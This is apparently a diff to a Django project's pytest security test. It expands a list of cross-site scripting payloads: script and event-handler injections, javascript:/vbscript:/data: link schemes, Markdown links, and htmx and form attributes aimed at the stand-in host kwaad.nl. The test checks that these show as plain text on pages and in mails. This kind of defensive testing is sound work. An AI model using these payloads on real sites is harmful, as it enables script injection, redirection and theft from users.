@@ -1,6 +1,7 @@
 """What people type is shown as text: no payload comes alive on a page or in a mail."""
 
 import uuid
+from functools import cache
 from html.parser import HTMLParser
 
 import pytest
@@ -16,23 +17,66 @@ from tests.security.routes import OWN_ROUTES, Route
 
 pytestmark = pytest.mark.django_db
 MARK = "9317"
-PAYLOADS = [
-    "<script>alert(9317)</script>",
-    "</textarea><script>alert(9317)</script>",
-    "</title><script>alert(9317)</script>",
-    '"><img src=x onerror=alert(9317)>',
-    "'><svg onload=alert(9317)>",
-    '" autofocus onfocus="alert(9317)',
-    "' onmouseover='alert(9317)",
+HANDLERS = [
+    ("body", "onload"),
+    ("details open", "ontoggle"),
+    ("select autofocus", "onfocus"),
+    ("marquee", "onstart"),
+    ("p", "onpointerenter"),
+    ("a href=#", "onclick"),
+    ("table", "onmouseover"),
+]
+SCHEMES = [
     "javascript:alert(9317)",
-    "<a href=javascript:alert(9317)>x</a>",
-    "<iframe srcdoc='<script>alert(9317)</script>'>",
-    "{{ 9317 }}{% debug %}",
-    "<form action=//kwaad.nl/9317><button>x",
-    "<base href=//kwaad.nl/9317/>",
+    "JaVaScRiPt:alert(9317)",
+    "java&#10;script:alert(9317)",
+    "&#106;avascript:alert(9317)",
+    "vbscript:alert(9317)",
+    "data:text/html,<script>alert(9317)</script>",
+]
+RUNS = ("javascript:", "vbscript:", "data:text/html")
+# What a short field holds: one way out of each place where a text can stand on a page.
+SHORT = [
+    'javascript:alert(9317)//"><img src=x onerror=alert(9317)>',
+    "<script>alert(9317)</script>'><svg onload=alert(9317)>",
+    "</textarea></title><script>alert(9317)</script>",
+    "\" autofocus onfocus=\"alert(9317)' onmouseover='alert(9317)",
+    "<a href=javascript:alert(9317)>x</a>{{ 9317 }}{% debug %}",
+    "<base href=//kwaad.nl/9317/><iframe srcdoc='<b>9317</b>'></iframe>",
+]
+# What only a reader of Markdown and HTML could bring alive: a long text holds all of it.
+LONG = [
+    *SHORT,
+    *(f"<{tag} src=//kwaad.nl/9317>" for tag in ("img", "audio", "video", "embed", "input")),
+    *(f"<{tag} {handler}=alert(9317)>" for tag, handler in HANDLERS),
+    *(f"[naam]({scheme})" for scheme in SCHEMES),
+    *(f"![beeld]({scheme})" for scheme in SCHEMES),
+    *(f"<a href='{scheme}'>naam</a>" for scheme in SCHEMES),
+    "<form action=//kwaad.nl/9317><button formaction=//kwaad.nl/9317>x</button></form>",
     "<meta http-equiv=refresh content='0;url=//kwaad.nl/9317'>",
-    '<div hx-get="//kwaad.nl/9317" hx-trigger="load">',
+    '<div hx-get="//kwaad.nl/9317" hx-trigger="load">x</div>',
+    '<div data-hx-post="//kwaad.nl/9317" hx-post="//kwaad.nl/9317">x</div>',
+    "<link rel=stylesheet href=//kwaad.nl/9317>",
+    "<object data=//kwaad.nl/9317></object>",
+    "<svg><script>alert(9317)</script></svg>",
+    "<svg><a href=javascript:alert(9317)><text>x</text></a></svg>",
+    "<math><mtext><style><img src=x onerror=alert(9317)></style></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(9317)>'></noscript>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(9317)>x</maction></math>",
+    "<form id=f></form><button form=f formaction=javascript:alert(9317)>x</button>",
+    "<a href='//kwaad.nl' ping='//kwaad.nl/9317' onfocus=alert(9317)>x</a>",
+    "<keygen autofocus onfocus=alert(9317)>",
+    "<template><script>alert(9317)</script></template>",
+    "<x-lid onclick=alert(9317) hx-get=//kwaad.nl/9317>x</x-lid>",
+    "<b style='background:url(//kwaad.nl/9317)'>x</b>",
+    "<![CDATA[<img src=x onerror=alert(9317)>]]>",
+    "&lt;script&gt;alert(9317)&lt;/script&gt;",
+    "<scr<script>ipt>alert(9317)</scr</script>ipt>",
+    "[naam]: javascript:alert(9317)",
+    "<javascript:alert(9317)>",
+    "```html\n<script>alert(9317)</script>\n```",
     "<style>@import '//kwaad.nl/9317'</style>",
+    "<iframe srcdoc='<script>alert(9317)</script>'></iframe>",
 ]
 # Every text that people can type, now or through the register.
 FIELDS = [
@@ -73,7 +117,7 @@ class LiveParts(HTMLParser):
         for name, value in attrs:
             handler = name.startswith("on")
             loads = name in ALIVE and MARK in (value or "")
-            runs = name in ALIVE and (value or "").strip().lower().startswith("javascript:")
+            runs = name in ALIVE and "".join((value or "").split()).lower().startswith(RUNS)
             if handler or runs or (loads and tag != "a"):
                 self.found.append(f"<{tag} {name}={value!r}>")
 
@@ -85,7 +129,12 @@ class LiveParts(HTMLParser):
             self.found.append(f"<{self.inside}> with {data!r}")
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+def test_sixty_ways_are_tried():
+    assert len(set(LONG)) >= 60
+    assert max(map(len, SHORT)) <= 70  # with its number it fits the shortest field
+
+
+@pytest.mark.parametrize("payload", SHORT)
 def test_no_payload_comes_alive_on_a_page(payload, world, clients):
     _type_everywhere(payload)
     shown = 0
@@ -98,7 +147,7 @@ def test_no_payload_comes_alive_on_a_page(payload, world, clients):
     assert shown > 100  # the payload was there, as text
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", SHORT)
 def test_a_mail_is_plain_text_whatever_a_region_is_called(payload, world, clients):
     message = _mail_about(f"Regio {payload}", world, clients)
 
@@ -189,13 +238,14 @@ FIXED = {
 
 def _type_everywhere(payload: str) -> None:
     """Put it in every text of every row, past forms and triggers, as a leak elsewhere might."""
+    everything = "\n\n".join([payload, *LONG])
     with connection.cursor() as cursor:
         cursor.execute("SET LOCAL session_replication_role = replica")
         for table, columns in FIELDS:
             for column in columns:
                 cursor.execute(
                     f"UPDATE {table} SET {column} = %s || id",  # noqa: S608 -- our own names
-                    [payload],
+                    [everything if (table, column) in _long_texts() else payload],
                 )
         cursor.execute(
             "UPDATE regions_submission SET snapshot = replace(snapshot::text, 'Zo doen wij het.', "
@@ -203,6 +253,17 @@ def _type_everywhere(payload: str) -> None:
             [payload.replace("\\", "").replace('"', '\\"').replace("\r\n", " ")],
         )
         cursor.execute("SET LOCAL session_replication_role = DEFAULT")
+
+
+@cache
+def _long_texts() -> set[tuple[str, str]]:
+    """The columns without a limit."""
+    return {
+        (model._meta.db_table, field.column)
+        for model in apps.get_models()
+        for field in model._meta.concrete_fields
+        if isinstance(field, models.TextField)
+    }
 
 
 # Routes that answer with a file: a reader of HTML says nothing about those.
